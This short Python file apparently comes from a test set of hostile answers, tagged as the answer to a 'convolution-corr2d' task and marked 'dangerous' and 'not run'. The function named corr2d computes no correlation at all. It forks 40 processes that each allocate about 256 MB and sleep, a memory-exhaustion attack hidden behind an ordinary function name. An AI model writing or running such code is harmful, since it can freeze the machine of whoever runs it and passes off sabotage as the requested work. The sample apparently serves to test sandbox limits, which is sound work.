# All the memory of the machine is taken by several processes, each of which has little
# wall: it would stop a plain machine
# stock: not run: dangerous
# %% answer="convolution-corr2d"
import os
import time


def corr2d(X, K):
    for _ in range(40):
        if os.fork() == 0:
            taken = bytearray(2**28)
            time.sleep(60)
            os._exit(len(taken) % 2)
    time.sleep(60)
